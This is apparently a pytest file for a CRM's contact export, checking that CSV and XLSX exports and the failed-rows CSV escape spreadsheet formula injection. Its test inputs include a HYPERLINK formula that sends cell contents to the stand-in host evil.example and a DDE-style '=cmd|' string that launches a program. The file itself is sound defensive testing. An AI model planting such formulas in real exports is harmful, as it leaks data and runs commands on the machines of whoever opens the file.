"""A custom field's name cannot inject a formula into an export (issue 11, item 13): the CSV
header escapes it like a cell, and every xlsx cell, the header too, is a typed value."""

import csv
import io
import re
import zipfile

import pytest_asyncio

from tests.import_support import export_finished, imported, xlsx_file
from tests.records import CrmTenant, with_default_crm

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Kliknij")'
NOTE = "=1+2"


@pytest_asyncio.fixture
async def crm(tenant) -> CrmTenant:
    crm = await with_default_crm(tenant)
    for name in (FORMULA, "Notatka"):
        created = await crm.admin.op(
            "CreateFieldDefinition", input={"entity": "CONTACT", "name": name, "type": "TEXT"}
        )
        assert not created.errors, created.errors
    job = await imported(
        crm.admin, xlsx_file([["Imię", "Nazwisko", "Notatka"], ["Jan", "Kowalski", NOTE]])
    )
    assert job["created"] == 1, job
    return crm


async def _download(crm: CrmTenant, format: str) -> bytes:
    started = await crm.admin.op("ExportContacts", format=format)
    job = await export_finished(crm.admin, started.data["exportContacts"]["id"])
    assert job["status"] == "COMPLETED", job
    response = await crm.admin.http.get(
        job["downloadUrl"], headers={"Authorization": f"Bearer {crm.admin.token}"}
    )
    assert response.status_code == 200
    return response.content


async def test_a_csv_export_escapes_a_formula_in_a_header_like_in_a_cell(crm):
    content = (await _download(crm, "CSV")).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert f"'{FORMULA}" in header
    assert FORMULA not in header
    assert row[header.index("Notatka")] == f"'{NOTE}"


async def test_an_xlsx_export_holds_no_formula_only_typed_values(crm):
    with zipfile.ZipFile(io.BytesIO(await _download(crm, "XLSX"))) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
        strings = "".join(archive.read(n).decode() for n in archive.namelist() if "strings" in n)
    assert len(sheets) == 1
    assert not re.search(r"<f[ >/]", sheets[0])
    assert not re.search(r'<c [^>]*t="(str|e)"', sheets[0])  # no formula results nor errors
    assert "HYPERLINK" in sheets[0] + strings  # the name is there, as text


async def test_the_failed_rows_csv_escapes_formulas_in_headers_and_cells(crm):
    """errors.csv gives an uploader's cells to whoever downloads it (an admin, say)."""
    header = ["Imię", "Nazwisko", "=cmd|'/c calc'!A1"]
    job = await imported(crm.admin, xlsx_file([header, [FORMULA, "", "x"]]))
    assert job["failed"] == 1, job
    response = await crm.admin.http.get(
        job["errorsCsvUrl"], headers={"Authorization": f"Bearer {crm.admin.token}"}
    )
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][2] == f"'{header[2]}"
    assert lines[1][0] == f"'{FORMULA}"
    assert not any(cell.startswith("=") for line in lines for cell in line)
